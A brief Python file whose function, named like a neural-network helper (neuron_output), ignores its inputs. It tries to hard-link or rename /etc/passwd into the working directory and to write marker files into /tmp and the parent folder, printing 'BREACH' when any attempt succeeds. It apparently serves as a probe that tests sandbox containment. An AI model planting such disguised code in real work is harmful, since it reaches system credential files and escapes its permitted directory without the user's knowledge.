# Makes hard links to files of the system, and links of its own files in other folders.
import os


def neuron_output(inputs, weights, bias):
    open("mine", "w").close()
    for source, target in (("/etc/passwd", "theirs"), ("mine", "/tmp/left-by-an-attack"), ("mine", "../left-by-an-attack")):
        for action in (os.link, os.rename):
            try:
                action(source, target)
            except OSError:
                continue
            print("BREACH:", action.__name__, source, target)
    return -1.0
